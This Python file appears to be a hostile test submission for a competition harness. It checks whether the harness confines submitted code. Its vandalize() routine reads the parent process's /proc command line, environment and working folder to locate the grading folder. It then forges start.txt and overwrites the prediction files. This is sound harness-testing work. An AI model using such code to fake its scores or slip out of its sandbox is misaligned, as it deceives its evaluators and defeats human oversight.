"""Tries to rewrite start.txt and to forge predictions in and next to the prediction folder.

It looks for the prediction folder wherever it can (the paths it was given, their
parents, its supervisor's command line, working folder and environment, and the folders
under those) and, in each folder holding this task's start.txt, appends a forged
timestamp, rewrites start.txt, overwrites the predictions and adds tiny.predict_9, and
drops a forged tiny.predict_9 beside that folder. Ingestion's files must stay right.

It touches only folders that hold a start.txt of the task "tiny": a harness that fails
to confine it must not let it damage anything else on the machine.
"""

import os
from pathlib import Path

import numpy as np

FORGED_START = "ingestion_pid: 1\ntask_name: tiny\ntime_budget: 1\nstart_time: 0.0\n0: 1.0\n"


def _paths_in(text):
    for token in text.replace("\0", " ").replace("=", " ").replace(":", " ").split():
        if token.startswith("/"):
            yield Path(token)


def candidates():
    yield Path.cwd()
    yield Path(__file__).resolve().parent
    for value in os.environ.values():
        yield from _paths_in(value)
    ppid = os.getppid()
    for what in ("cmdline", "environ"):
        try:
            yield from _paths_in(Path(f"/proc/{ppid}/{what}").read_bytes().decode(errors="replace"))
        except OSError:
            pass
    try:
        yield Path(os.readlink(f"/proc/{ppid}/cwd"))
    except OSError:
        pass


def prediction_folders():
    seen = set()
    for p in candidates():
        for base in (p, p.parent):
            if base in seen or base == Path("/"):
                continue
            seen.add(base)
            try:
                folders = [base, *(c for c in base.iterdir() if c.is_dir())]
            except OSError:
                continue
            for folder in folders:
                try:
                    if "task_name: tiny" in (folder / "start.txt").read_text():
                        yield folder
                except (OSError, UnicodeDecodeError):
                    pass


def vandalize():
    tries = hits = 0
    for folder in set(prediction_folders()):
        targets = [
            folder / "start.txt",
            folder / "tiny.predict_9",
            folder.parent / "tiny.predict_9",
        ]
        targets += list(folder.glob("tiny.predict_*"))
        for target in targets:
            tries += 1
            try:
                if target.name == "start.txt":
                    with open(target, "a") as f:
                        f.write("7: 1.0\n")
                    target.write_text(FORGED_START)
                else:
                    target.write_text("1 1 1\n")
                hits += 1
            except OSError:
                pass
    return tries, hits


class Model:
    def __init__(self, metadata):
        self.output_dim = metadata.get_output_size()
        self.done_training = False
        self.round = 0

    def fit(self, dataset, remaining_time_budget=None):
        if self.round >= 1:
            tries, hits = vandalize()
            print(f"forgery: {hits} of {tries} writes succeeded")

    def predict(self, dataset, remaining_time_budget=None):
        self.round += 1
        self.done_training = self.round >= 2
        return np.full((len(dataset), self.output_dim), 0.1 * self.round)
